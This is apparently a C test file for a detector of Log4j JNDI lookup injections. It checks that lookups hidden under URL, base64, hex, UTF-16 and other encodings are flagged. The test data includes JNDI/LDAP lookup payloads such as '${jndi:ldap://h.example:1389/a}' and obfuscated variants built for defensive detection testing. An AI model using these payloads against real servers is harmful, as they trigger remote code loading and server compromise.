/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "detect/resolve.h"
#include "detect/scan_baked.h"
#include "support/encode.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

/* The linker puts these between the resolver and the scan: blind, the resolver is told that everything is
 * there, and tries every reading, so that what it finds does not rest on the trigger that is to be proved. */
unsigned __real_scan_all(struct scan *s, struct bytes text);
unsigned __real_scan_block(struct scan *s, struct bytes text);
unsigned __wrap_scan_all(struct scan *s, struct bytes text);
unsigned __wrap_scan_block(struct scan *s, struct bytes text);

static bool blind;

unsigned __wrap_scan_all(struct scan *s, struct bytes text)
{
    return blind ? (unsigned)(SCAN_OPEN | SCAN_HIT | SCAN_TIGHT) : __real_scan_all(s, text);
}

unsigned __wrap_scan_block(struct scan *s, struct bytes text)
{
    return blind ? (unsigned)(SCAN_OPEN | SCAN_HIT) : __real_scan_block(s, text);
}

static struct config *config;
static struct scan *scan;
static struct resolver *resolver;

static int set_up(void **state)
{
    struct complaint why = {{0}};

    (void)state;
    config = config_new();
    scan = scan_new(&why);
    assert_non_null(config);
    assert_non_null(scan);
    resolver = resolver_new(config, scan);
    assert_non_null(resolver);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    resolver_free(resolver);
    scan_free(scan);
    config_free(config);
    return 0;
}

struct found {
    unsigned n;
    bool spent;
    char name[256]; /* the first */
};

static void on_resolved(void *arg, const struct resolved *r)
{
    struct found *f = arg;

    if (f->n++ == 0)
        snprintf(f->name, sizeof f->name, "%.*s", (int)r->hit->name.len, (const char *)r->hit->name.p);
}

static struct found resolve_as(struct bytes text, enum field_coding coding, bool without_trigger)
{
    struct found f = {0};

    blind = without_trigger;
    resolver_run(resolver, text, coding, true, on_resolved, &f, &f.spent);
    blind = false;
    return f;
}

static bool is_marked(struct bytes text)
{
    return (scan_block(scan, text) & SCAN_HIT) != 0;
}

/* Where each encoding is at home: what is encoded stands between before and after. */
static const struct {
    enum unwrap_layer layer;
    enum field_coding coding;
    const char *before, *after;
} places[] = {
    {UNWRAP_URL, FIELD_URI, "/", "/x?y=z"},
    {UNWRAP_URL, FIELD_URI, "/a?b=c&q=", "&r=1"},
    {UNWRAP_URL, FIELD_COOKIE, "a=b; c=", ""},
    {UNWRAP_URL, FIELD_PLAIN, "agent/1.0 ", ""},
    {UNWRAP_FORM, FIELD_FORM, "user=x&pass=", "&submit=y"},
    {UNWRAP_FORM, FIELD_FORM, "", "=x"},
    {UNWRAP_JSON, FIELD_JSON, "{\"a\":\"", "\",\"b\":1}"},
    {UNWRAP_JSON, FIELD_PLAIN, "[1,\"x\",\"", "\"]"},
    {UNWRAP_ESCAPE, FIELD_PLAIN, "", ""},
    {UNWRAP_ESCAPE, FIELD_PLAIN, "a=", "; b"},
    {UNWRAP_ENTITY, FIELD_XML, "<a>", "</a>"},
    {UNWRAP_ENTITY, FIELD_PLAIN, "x ", " y"},
    {UNWRAP_UTF16, FIELD_PLAIN, "", ""},
    {UNWRAP_UTF16, FIELD_JSON, "", ""},
    {UNWRAP_UTF8, FIELD_PLAIN, "x", "y"},
    {UNWRAP_QUOTED, FIELD_PLAIN, "Subject: ", "\r\nTo: x\r\n"},
    {UNWRAP_UTF7, FIELD_PLAIN, "a ", " b"},
    {UNWRAP_BASE64, FIELD_PLAIN, "Basic ", ""},
    {UNWRAP_BASE64, FIELD_COOKIE, "a=b; s=", "; c=d"},
    {UNWRAP_BASE64, FIELD_FORM, "a=b&t=", ""},
    {UNWRAP_BASE64, FIELD_JSON, "{\"token\":\"", "\"}"},
    {UNWRAP_HEX, FIELD_PLAIN, "id=", " x"},
    {UNWRAP_HEX, FIELD_FORM, "id=", "&x=y"},
};

#define NAME   "ldap://h.example:1389/a"
#define LOOKUP "${jndi:" NAME "}"

/* The lookup, inside other text where the layer hides where it begins. */
static struct buf lookup_for(struct chance *c, enum unwrap_layer layer)
{
    struct buf text = buf_within(256);
    bool hidden = layer == UNWRAP_BASE64 || layer == UNWRAP_HEX || layer == UNWRAP_UTF16;

    for (uint32_t n = hidden ? chance_below(c, 7) : 0; n; n--)
        buf_add_byte(&text, (uint8_t)('a' + chance_below(c, 26)));
    buf_add_str(&text, LOOKUP);
    for (uint32_t n = hidden ? chance_below(c, 7) : 0; n; n--)
        buf_add_byte(&text, (uint8_t)('A' + chance_below(c, 26)));
    return text;
}

static unsigned some_percent(struct chance *c)
{
    return chance_below(c, 3) ? chance_below(c, 100) : 100;
}

static void each_layer_is_found_where_it_is_at_home(void **state)
{
    static const char *const musts[] = {"$", "{", "${", "${}", "{:"};
    struct chance c = {1};

    (void)state;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        for (unsigned round = 0; round < 1500; round++) {
            struct buf lookup = lookup_for(&c, places[i].layer), text = buf_within(8192);
            struct found f;

            buf_add_str(&text, places[i].before);
            encode(&c, places[i].layer, buf_bytes(&lookup), some_percent(&c),
                   musts[chance_below(&c, sizeof musts / sizeof *musts)], &text);
            buf_add_str(&text, places[i].after);
            if (!is_marked(buf_bytes(&text)))
                fail_msg("%s, not marked: %.*s", unwrap_name(places[i].layer), (int)text.len,
                         (const char *)text.p);
            f = resolve_as(buf_bytes(&text), places[i].coding, false);
            if (f.n == 0 || f.spent || strcmp(f.name, NAME) != 0)
                fail_msg("%s in place %zu, found \"%s\": %.*s", unwrap_name(places[i].layer), i, f.name,
                         (int)text.len, (const char *)text.p);
            buf_drop(&lookup);
            buf_drop(&text);
        }
}

/* What lookups are made of, in any order: a good part of it comes out as a lookup. */
static struct buf random_text(struct chance *c)
{
    static const char *const words[] = {"${",
                                        "${",
                                        "}",
                                        "}",
                                        "}",
                                        "$",
                                        "{",
                                        ":-",
                                        "::-",
                                        "lower:",
                                        "upper:",
                                        "x",
                                        "j",
                                        "ndi:",
                                        "env:A",
                                        "date:'j'",
                                        " ",
                                        "${::-",
                                        "$$",
                                        "jndi:",
                                        "${jndi:ldap://h/a}",
                                        "${${lower:j}ndi:ldap://h/a}",
                                        "ldap://h/a}",
                                        "${jndi:rmi://h/",
                                        "\xc4\xb1",
                                        "&"};
    struct buf text = buf_within(1024);

    for (uint32_t n = 1 + chance_below(c, 9); n; n--)
        buf_add_str(&text, words[chance_below(c, sizeof words / sizeof *words)]);
    return text;
}

static void wrap_in(struct chance *c, enum unwrap_layer layer, struct buf *text)
{
    struct buf out = buf_within(1 << 20);

    encode(c, layer, buf_bytes(text), some_percent(c), chance_below(c, 2) ? "${" : NULL, &out);
    buf_drop(text);
    *text = out;
}

/* Any stack of up to three encodings, in any place: nothing is reported that the trigger has not marked, so
 * that looking at marked texts alone loses nothing. */
static void whatever_is_found_is_marked(void **state)
{
    struct chance c = {2};
    unsigned n_found = 0;

    (void)state;
    for (unsigned round = 0; round < 40000; round++) {
        struct buf text = random_text(&c);

        for (uint32_t n = chance_below(&c, 4); n; n--)
            wrap_in(&c, (enum unwrap_layer)chance_below(&c, UNWRAP_N), &text);
        if (resolve_as(buf_bytes(&text), (enum field_coding)chance_below(&c, FIELD_COOKIE + 1), false).n) {
            n_found++;
            if (!is_marked(buf_bytes(&text)))
                fail_msg("found, and not marked: %.*s", (int)text.len, (const char *)text.p);
        }
        buf_drop(&text);
    }
    assert_in_range(n_found, 5000, 40000);
}

/* As tools do that encode every byte. */
static void percent_encode_all(struct buf *text)
{
    struct buf out = buf_within(1 << 20);

    for (size_t i = 0; i < text->len; i++)
        buf_addf(&out, "%%%02x", text->p[i]);
    buf_drop(text);
    *text = out;
}

static void encode_percent_signs(struct buf *text)
{
    struct buf out = buf_within(1 << 20);

    for (size_t i = 0; i < text->len; i++)
        if (text->p[i] == '%')
            buf_add_str(&out, "%25");
        else
            buf_add_byte(&out, text->p[i]);
    buf_drop(text);
    *text = out;
}

/* The stronger half: what a resolver finds that tries every reading of every text, trigger or not. No
 * encoding, any one, and percent signs over those that a server undoes. */
static void what_a_blind_resolver_finds_is_marked(void **state)
{
    static const enum unwrap_layer inside[] = {UNWRAP_URL, UNWRAP_JSON, UNWRAP_ESCAPE, UNWRAP_HEX,
                                               UNWRAP_UTF16};
    struct chance c = {3};
    unsigned n_found = 0;

    (void)state;
    for (unsigned round = 0; round < 40000; round++) {
        struct buf text = random_text(&c);

        switch (chance_below(&c, 5)) {
        case 0:
            break;
        case 1:
            wrap_in(&c, UNWRAP_URL, &text);
            for (uint32_t n = chance_below(&c, 4); n; n--)
                encode_percent_signs(&text);
            break;
        case 2:
            wrap_in(&c, inside[chance_below(&c, sizeof inside / sizeof *inside)], &text);
            for (uint32_t n = 1 + chance_below(&c, 2); n; n--)
                percent_encode_all(&text);
            break;
        default:
            wrap_in(&c, (enum unwrap_layer)chance_below(&c, UNWRAP_N), &text);
        }
        if (resolve_as(buf_bytes(&text), (enum field_coding)chance_below(&c, FIELD_COOKIE + 1), true).n) {
            n_found++;
            if (!is_marked(buf_bytes(&text)))
                fail_msg("missed: %.*s", (int)text.len, (const char *)text.p);
        }
        buf_drop(&text);
    }
    assert_in_range(n_found, 8000, 40000);
}

/* The build's databases are those of these patterns, for all levels of processors. */
static void what_was_baked_is_what_would_be_compiled(void **state)
{
    const struct scan_baked *b = scan_baked;
    struct complaint why = {{0}};
    size_t len = 0;
    char *db;

    (void)state;
    for (unsigned level = 0;; level++) {
        if (!scan_bake(level, &db, &len, &why))
            continue; /* not by this Hyperscan */
        if (!db)
            break;
        assert_int_equal(b->len, len);
        assert_memory_equal(b->words, db, len);
        free(db);
        b++;
    }
    assert_null(b->words);
    assert_true(b > scan_baked);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_was_baked_is_what_would_be_compiled),
        cmocka_unit_test(each_layer_is_found_where_it_is_at_home),
        cmocka_unit_test(whatever_is_found_is_marked),
        cmocka_unit_test(what_a_blind_resolver_finds_is_marked),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
